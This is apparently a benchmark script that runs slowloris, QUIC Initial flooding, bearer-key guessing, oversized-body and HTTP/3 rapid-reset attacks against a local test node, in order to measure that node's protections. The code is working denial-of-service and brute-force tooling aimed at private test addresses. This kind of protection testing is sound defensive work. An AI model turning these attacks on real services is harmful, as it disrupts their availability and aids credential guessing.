"""Those who mean harm, each as fast as it says.

python -m bench.protect.attacks NAME SECONDS     prints "ready", then what came of it, as JSON
"""

import asyncio
import json
import socket
import sys
import time
from collections import Counter
from collections.abc import Awaitable, Callable
from typing import Any

import aiohttp
import uvloop
from aioquic.quic.connection import QuicConnection

from bench.protect.customers import NODE, PATH
from tests.fakes.h3_client import client_configuration, h3_connect

ATTACKER, OTHER = "10.98.0.66", "10.98.1.201"
BOTS = [f"10.98.1.{n}" for n in range(1, 201)]
KEY = "the-key-of-an-abuser"
Attack = Callable[[float], Awaitable[Any]]
Found = Counter[str]


def ready() -> float:
    loop = asyncio.get_running_loop()
    loop.set_exception_handler(lambda *_: None)  # of connections that were given up
    print("ready", flush=True)
    return time.perf_counter()


async def slowloris(seconds: float) -> Found:
    """500 connections of one address that send a byte of a head each second."""
    found, until = Found(), ready() + seconds

    async def drip() -> None:
        while time.perf_counter() < until:
            try:
                reader, writer = await asyncio.open_connection(
                    NODE[0], NODE[1] - 1, local_addr=(ATTACKER, 0)
                )
                writer.write(b"GET / HTTP/1.1\r\nX-A: ")
                while time.perf_counter() < until:
                    writer.write(b"a")
                    try:
                        async with asyncio.timeout(1.0):
                            answer = await reader.read(1024)
                    except TimeoutError:
                        continue
                    if not answer:
                        found["refused at accept"] += 1
                    else:
                        found[answer.decode().split()[1]] += 1
                    break
                writer.close()
            except (OSError, RuntimeError):  # uvloop's, for one that was closed meanwhile
                found["refused at accept"] += 1
            await asyncio.sleep(0.5)

    await asyncio.gather(*(drip() for _ in range(500)))
    return found


async def initials(seconds: float) -> Found:
    """2,000 first packets of QUIC a second from 200 addresses, which go no further."""
    packets = []
    for _ in range(2000):
        quic = QuicConnection(configuration=client_configuration())
        quic.connect(NODE, now=0.0)
        packets.append(quic.datagrams_to_send(now=0.0)[0][0])
    sockets = []
    for bot in BOTS:
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.bind((bot, 0))
        sockets.append(sock)
    began, sent = ready(), 0
    while (now := time.perf_counter()) < began + seconds:
        while sent < (now - began) * 2000:
            sockets[sent % len(sockets)].sendto(packets[sent % len(packets)], NODE)
            sent += 1
        await asyncio.sleep(0.005)
    return Found({"initials": sent})


async def guesses(seconds: float) -> Found:
    """500 wrong keys a second of one address."""
    found = Found()
    connector = aiohttp.TCPConnector(ssl=False, local_addr=(ATTACKER, 0), limit=50)
    async with aiohttp.ClientSession(connector=connector) as session:

        async def guess(number: int) -> None:
            headers = {"Authorization": f"Bearer guess-{number}"}
            try:
                url = f"https://{NODE[0]}:{NODE[1]}{PATH}"
                async with session.post(url, json={}, headers=headers) as answer:
                    await answer.read()
                    found[str(answer.status)] += 1
            except (OSError, aiohttp.ClientError):
                found["failed"] += 1

        began, sent = ready(), 0
        async with asyncio.TaskGroup() as group:
            while (now := time.perf_counter()) < began + seconds:
                while sent < (now - began) * 500:
                    group.create_task(guess(sent))
                    sent += 1
                await asyncio.sleep(0.01)
    return found


async def bodies(seconds: float) -> Found:
    """Four clients with a key, of one address, that send 7.9 MiB as often as they are answered: in
    turn a text of that length, and JSON of as many parts as fit in."""
    size = 7_900_000
    filler = b'"x' + b"a" * size + b'"'
    many = b"[" + b"[]," * (size // 3) + b"0]"
    texts = [
        b'{"model":"bench","messages":[{"role":"user","content":' + filler + b"}]}",
        b'{"model":"bench","messages":' + many + b"}",
    ]
    headers = {"Authorization": f"Bearer {KEY}", "Content-Type": "application/json"}
    found, until = Found(), ready() + seconds

    async def send(number: int) -> None:
        connector = aiohttp.TCPConnector(ssl=False, local_addr=(OTHER, 0))
        async with aiohttp.ClientSession(connector=connector) as session:
            while time.perf_counter() < until:
                try:
                    url = f"http://{NODE[0]}:{NODE[1] - 1}{PATH}"
                    text = texts[number % 2]
                    async with session.post(url, data=text, headers=headers) as answer:
                        await answer.read()
                        found[str(answer.status)] += 1
                except (OSError, aiohttp.ClientError):
                    found["failed"] += 1
                number += 1

    await asyncio.gather(*(send(number) for number in range(4)))
    return found


async def resets(seconds: float) -> Found:
    """HTTP/3 requests that are reset at once, as fast as a client can, from ten addresses."""
    found, until = Found(), ready() + seconds
    fields = [(b":method", b"POST"), (b":scheme", b"https"), (b":authority", b"localhost")]
    fields += [(b":path", PATH.encode()), (b"content-type", b"application/json")]
    fields += [(b"authorization", f"Bearer {KEY}".encode())]

    async def rush(bot: str) -> None:
        while time.perf_counter() < until:
            try:
                async with asyncio.timeout(2), h3_connect(NODE, None, bot) as client:
                    while client.closed is None and time.perf_counter() < until:
                        for _ in range(20):
                            stream = client.open_raw()
                            client.h3.send_headers(stream.stream_id, fields)
                            client.quic.reset_stream(stream.stream_id, 0x10C)
                            found["resets"] += 1
                        client.transmit()
                        await asyncio.sleep(0.01)
                    if client.closed is not None:
                        found[f"closed with {client.closed.error_code:#x}"] += 1
            except Exception as exc:
                found[type(exc).__name__] += 1
                await asyncio.sleep(0.1)

    await asyncio.gather(*(rush(bot) for bot in BOTS[:10]))
    return found


ATTACKS: dict[str, Attack] = {
    "slowloris": slowloris,
    "initials": initials,
    "guesses": guesses,
    "bodies": bodies,
    "resets": resets,
}

if __name__ == "__main__":
    found = uvloop.run(ATTACKS[sys.argv[1]](float(sys.argv[2])))  # type: ignore[arg-type]
    print(json.dumps(found))
